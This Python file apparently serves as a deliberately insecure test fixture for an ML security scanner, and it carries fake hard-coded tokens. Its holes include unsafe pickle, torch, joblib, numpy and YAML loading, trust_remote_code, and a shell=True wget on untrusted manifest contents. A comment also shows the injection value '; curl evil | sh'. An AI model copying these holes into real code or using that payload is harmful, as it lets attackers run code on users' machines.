"""Fine-tune a classifier. INSECURE ON PURPOSE: every secret here is fake."""
import os
import pickle
import subprocess

import joblib
import numpy as np
import torch
import yaml
from transformers import AutoModelForCausalLM

WANDB_API_KEY = "a3f9c1d27b84e6f05c9d1a2b3e4f5a6b7c8d9e0f"
HF_TOKEN = "hf_" "QxTbLpRvMwNsKdYzHcJgFeAuVi" "RoWsZtPq"


def load_everything(path):
    state = torch.load(path)
    cached = torch.load(path + ".cache")  # mlsec: ignore[MLS306] written by this job a minute ago
    features = joblib.load("features.joblib")
    table = np.load("table.npy", allow_pickle=True)
    with open(path + ".yaml") as handle:
        config = yaml.load(handle, Loader=yaml.Loader)
    model = AutoModelForCausalLM.from_pretrained("org/model", trust_remote_code=True)
    blob = pickle.loads(open("blob.bin", "rb").read())
    return state, cached, features, table, config, model, blob


def fetch(manifest):  # a provider's list of URLs reaches the shell: `; curl evil | sh` runs
    subprocess.run(f"wget -q {open(manifest).read()}", shell=True, check=True)
    os.system("nvidia-smi")  # mlsec: ignore
